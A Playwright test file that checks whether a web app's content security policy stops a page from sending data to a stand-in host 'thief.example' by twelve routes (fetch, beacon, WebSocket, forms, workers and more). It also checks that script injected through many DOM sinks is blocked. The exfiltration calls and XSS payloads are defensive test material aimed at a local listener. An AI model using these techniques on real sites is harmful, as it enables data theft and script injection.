import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import { expect, nightly, test as base } from './support/test.ts';

/** Only this browser resolves the name, to the address of the listener. */
const thief = 'thief.example';

async function startListener() {
  const heard = new Set<string>();
  const server = createServer((request, response) => {
    heard.add((request.url ?? '').slice(1));
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  server.on('upgrade', (request, socket) => {
    heard.add((request.url ?? '').slice(1));
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    heard,
    port,
    url: `http://${thief}:${port}`,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

type Listener = Awaited<ReturnType<typeof startListener>>;

interface Fixtures {
  listener: Listener;
  /** The listener is a host on the internet for this browser. */
  visit: (how: 'with our policy' | 'without a policy') => Promise<Visit>;
}

interface Visit {
  context: BrowserContext;
  violations: string[];
  ran: string[];
}

const test = base.extend<Fixtures>({
  listener: async ({}, use) => {
    const listener = await startListener();
    await use(listener);
    await listener.close();
  },
  visit: async ({ playwright, launchOptions, product }, use) => {
    const others = (launchOptions.args ?? []).filter((arg) => !arg.startsWith('--host-resolver'));
    const names = `--host-resolver-rules=MAP ${thief} 127.0.0.1 , MAP * ~NOTFOUND , EXCLUDE 127.0.0.1 , EXCLUDE localhost`;
    const browser = await playwright.chromium.launch({
      ...launchOptions,
      args: [...others, names],
    });
    await use(async (how) => {
      const bypassCSP = how === 'without a policy';
      const context = await browser.newContext({ baseURL: product.url, bypassCSP });
      return { context, ...(await watchContext(context)) };
    });
    await browser.close();
  },
});

async function watchContext(context: BrowserContext) {
  const violations: string[] = [];
  const ran: string[] = [];
  await context.exposeBinding('noteViolation', (_, directive: string) => {
    violations.push(directive);
  });
  await context.exposeBinding('ran', (_, what: string) => {
    ran.push(what);
  });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { noteViolation } = window as unknown as { noteViolation: (directive: string) => void };
      noteViolation(event.effectiveDirective);
    });
  });
  return { violations, ran };
}

async function openPage(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  await page.goto('/login');
  await expect(page.getByRole('heading', { name: 'Welcome Back' })).toBeVisible();
  return page;
}

function addElement(page: Page, tag: string, attributes: Record<string, string>) {
  return page.evaluate(
    ([name, given]) => {
      const element = Object.assign(document.createElement(name), given);
      document.body.append(element);
      if (element instanceof HTMLFormElement) element.submit();
    },
    [tag, attributes] as const,
  );
}

const ways: Record<string, (page: Page, url: string) => Promise<unknown>> = {
  fetch: (page, url) => page.evaluate((to) => fetch(to, { mode: 'no-cors' }), url),
  XHR: (page, url) =>
    page.evaluate((to) => {
      const request = new XMLHttpRequest();
      request.open('POST', to);
      request.send('the key');
    }, url),
  WebSocket: (page, url) =>
    page.evaluate((to) => void new WebSocket(to), url.replace('http:', 'ws:')),
  beacon: (page, url) => page.evaluate((to) => navigator.sendBeacon(to, 'the key'), url),
  image: (page, url) => addElement(page, 'img', { src: url }),
  CSS: (page, url) => addElement(page, 'link', { rel: 'stylesheet', href: url }),
  font: (page, url) => page.evaluate((to) => new FontFace('x', `url(${to})`).load(), url),
  form: (page, url) => addElement(page, 'form', { method: 'POST', action: url, target: '_blank' }),
  frame: (page, url) => addElement(page, 'iframe', { src: url }),
  worker: (page, url) =>
    page.evaluate((to) => {
      const script = new Blob([`fetch('${to}', { mode: 'no-cors' })`]);
      void new Worker(URL.createObjectURL(script));
    }, url),
  prefetch: (page, url) => addElement(page, 'link', { rel: 'prefetch', href: url }),
  navigation: (page, url) => page.evaluate((to) => window.location.assign(to), url),
};

const shutBy: Record<string, string> = {
  fetch: 'connect-src',
  XHR: 'connect-src',
  WebSocket: 'connect-src',
  beacon: 'connect-src',
  image: 'img-src',
  CSS: 'style-src-elem',
  font: 'font-src',
  form: 'form-action',
  frame: 'frame-src',
  worker: 'require-trusted-types-for',
  prefetch: 'default-src',
};

async function tryAll(page: Page, url: string, isOver: (name: string) => Promise<void>) {
  for (const [name, leave] of Object.entries(ways)) {
    await leave(page, `${url}/${name}`).catch(() => undefined);
    await isOver(name);
  }
}

test('our policy blocks eleven of twelve ways to send data out of a page', async ({
  visit,
  listener,
}) => {
  const { context, violations } = await visit('with our policy');
  await tryAll(await openPage(context), listener.url, async (name) => {
    const directive = shutBy[name];
    if (directive === undefined) await expect.poll(() => [...listener.heard]).toContain(name);
    else await expect.poll(() => violations.splice(0)).toEqual([directive]);
  });
  expect(Object.keys(ways)).toHaveLength(12);
  expect([...listener.heard].filter((name) => name !== 'favicon.ico')).toEqual(['navigation']);
});

test('without our policy all twelve work', nightly, async ({ visit, listener }) => {
  const { context, violations } = await visit('without a policy');
  await tryAll(await openPage(context), listener.url, async (name) => {
    await expect.poll(() => [...listener.heard]).toContain(name);
  });
  expect(violations).toEqual([]);
});

/** The policy does not block these ways. docs/security.md names each of them. */
const admitted: Record<string, (page: Page, listener: Listener) => Promise<unknown>> = {
  window: (page, { url }) => page.evaluate((to) => void window.open(to), `${url}/window`),
  'this computer': (page, { port }) =>
    page.evaluate(
      (to) => fetch(to, { mode: 'no-cors' }),
      `http://127.0.0.1:${port}/this%20computer`,
    ),
  'a host approved by the script': async (page, { url }) => {
    await page.evaluate((origin) => {
      document.cookie = `approved_origins=${encodeURIComponent(origin)}; path=/`;
    }, url);
    await page.reload();
    await page.evaluate(
      (to) => fetch(to, { mode: 'no-cors' }),
      `${url}/a%20host%20approved%20by%20the%20script`,
    );
  },
};

test('the ways that our policy can not block are known', nightly, async ({ visit, listener }) => {
  const { context } = await visit('with our policy');
  const page = await openPage(context);
  for (const [name, leave] of Object.entries(admitted)) {
    await leave(page, listener);
    await expect.poll(() => [...listener.heard].map(decodeURIComponent)).toContain(name);
  }
});

test('a script can contact its own host through WebRTC', nightly, async ({ visit }) => {
  const socket = createSocket('udp4');
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  const heard = new Promise((resolve) => socket.once('message', resolve));
  const { context } = await visit('with our policy');
  const page = await openPage(context);
  await page.evaluate(async (port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    connection.createDataChannel('key');
    await connection.setLocalDescription(await connection.createOffer());
    Object.assign(window, { connection });
  }, socket.address().port);
  await heard;
  socket.close();
});

const script = "ran('injected')";
const markup = `<img src="/none" onerror="${script}">`;

const sinks: Record<string, (page: Page) => Promise<unknown>> = {
  innerHTML: (page) => page.evaluate((text) => (document.body.innerHTML = text), markup),
  outerHTML: (page) =>
    page.evaluate((text) => {
      const element = document.body.appendChild(document.createElement('p'));
      element.outerHTML = text;
    }, markup),
  insertAdjacentHTML: (page) =>
    page.evaluate((text) => document.body.insertAdjacentHTML('beforeend', text), markup),
  'document.write': (page) => page.evaluate((text) => document.write(text), markup),
  'a parsed document': (page) =>
    page.evaluate((text) => {
      const { body } = new DOMParser().parseFromString(text, 'text/html');
      document.body.append(...body.childNodes);
    }, markup),
  'a contextual fragment': (page) =>
    page.evaluate((text) => {
      document.body.append(document.createRange().createContextualFragment(text));
    }, markup),
  'a frame of text': (page) =>
    page.evaluate(
      (text) => {
        const frame = Object.assign(document.createElement('iframe'), { srcdoc: text });
        document.body.append(frame);
      },
      markup.replace('ran(', 'parent.ran('),
    ),
  'an inline script': (page) => addElement(page, 'script', { textContent: script }),
  'a script of data': (page) =>
    addElement(page, 'script', { src: `data:text/javascript,${encodeURIComponent(script)}` }),
  'an attribute': (page) =>
    page.evaluate((text) => {
      const element = document.body.appendChild(document.createElement('button'));
      element.setAttribute('onclick', text);
      element.click();
    }, script),
  // oxlint-disable-next-line no-implied-eval -- the test checks that it is refused
  'a timer': (page) => page.evaluate((text) => void setTimeout(text), script),
  'an address': (page) =>
    page.evaluate((text) => window.location.assign(text), `javascript:${script}`),
  'a link': (page) =>
    page.evaluate((text) => {
      const link = Object.assign(document.createElement('a'), { href: text });
      document.body.append(link);
      link.click();
    }, `javascript:${script}`),
  'a policy of its own': (page) =>
    page.evaluate((text) => {
      const { trustedTypes } = window as unknown as { trustedTypes: Factory };
      const policy = trustedTypes.createPolicy('default', { createHTML: (html) => html });
      document.body.innerHTML = policy.createHTML(text);
    }, markup),
};

interface Factory {
  createPolicy(
    name: string,
    rules: { createHTML(html: string): string },
  ): { createHTML(html: string): string };
}

test('no text runs as script, and each would without our policy', nightly, async ({ visit }) => {
  const shut = await visit('with our policy');
  const open = await visit('without a policy');
  const page = await openPage(shut.context);
  const other = await openPage(open.context);
  for (const [name, plant] of Object.entries(sinks)) {
    await plant(page).catch(() => undefined);
    await expect.poll(() => shut.violations.splice(0), name).not.toEqual([]);
    await plant(other);
    await expect.poll(() => open.ran.splice(0), name).toEqual(['injected']);
  }
  expect(shut.ran).toEqual([]);
});

test('the page of the API documentation works under its own content security policy', async ({
  page,
}) => {
  await page.goto('/api/docs');
  await page.getByRole('button', { name: /^GET \/api\/health Report whether/ }).click();
  await page.getByRole('button', { name: 'Try it out' }).click();
  await page.getByRole('button', { name: 'Execute' }).click();
  await expect(page.getByText('Server response')).toBeVisible();
});

const connectionLogger = `data:text/javascript,${encodeURIComponent(`
  import { Socket } from 'node:net';
  const { connect } = Socket.prototype;
  Socket.prototype.connect = function (...where) {
    console.log('connects');
    return connect.apply(this, where);
  };
`)}`;

function startServer(program: readonly string[], env: Record<string, string> = {}) {
  const child = spawn(process.execPath, ['--import', connectionLogger, ...program], {
    env: { ...process.env, ...env },
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const output = { text: '' };
  child.stdout.setEncoding('utf8').on('data', (text: string) => (output.text += text));
  const ended = new Promise((resolve) => child.once('close', resolve));
  return { child, output, ended };
}

test('the server opens no outgoing connections for any request', async ({ request, account }) => {
  const folder = await mkdtemp(join(tmpdir(), 'server-'));
  const env = { PORT: '0', DATA_DIR: folder, LOG_LEVEL: 'info' };
  const { child, output, ended } = startServer(['apps/api/dist/server.js'], env);
  const runsAt = /runs at (http:\S+)/;
  await expect.poll(() => output.text, { timeout: 60_000 }).toMatch(runsAt);
  const url = runsAt.exec(output.text)?.[1] ?? '';
  const registered = await request.post(`${url}/api/auth/register`, { data: account });
  const { token } = (await registered.json()) as { token: string };
  const headers = { authorization: `Bearer ${token}` };
  const data = { analysis: {}, audioUrl: 'http://127.0.0.1:9/audio.mp3', summary: 'Hi.' };
  await expect(await request.post(`${url}/api/metrics`, { headers, data })).toBeOK();
  for (const path of ['/api/metrics', '/api/health', '/api/docs/json', '/login']) {
    await expect(await request.get(`${url}${path}`, { headers })).toBeOK();
  }
  child.kill('SIGTERM');
  await ended;
  expect(output.text).toContain('/api/metrics');
  expect(output.text).not.toContain('connects');
  await rm(folder, { recursive: true, force: true });

  const other = startServer(['--eval', "fetch('http://127.0.0.1:65535').catch(() => undefined)"]);
  await other.ended;
  expect(other.output.text).toContain('connects');
});
